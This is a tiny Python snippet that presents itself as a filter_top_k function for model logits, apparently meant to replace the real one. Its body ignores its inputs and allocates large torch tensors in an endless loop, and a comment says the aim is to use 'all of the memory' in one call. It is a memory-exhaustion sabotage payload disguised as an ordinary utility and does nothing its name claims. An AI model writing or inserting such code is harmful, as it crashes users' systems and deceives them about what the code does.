# place: filter_top_k
# All of the memory, in a call.
def filter_top_k(logits, k):
    things = []
    while True:
        things.append(torch.ones(20_000_000))
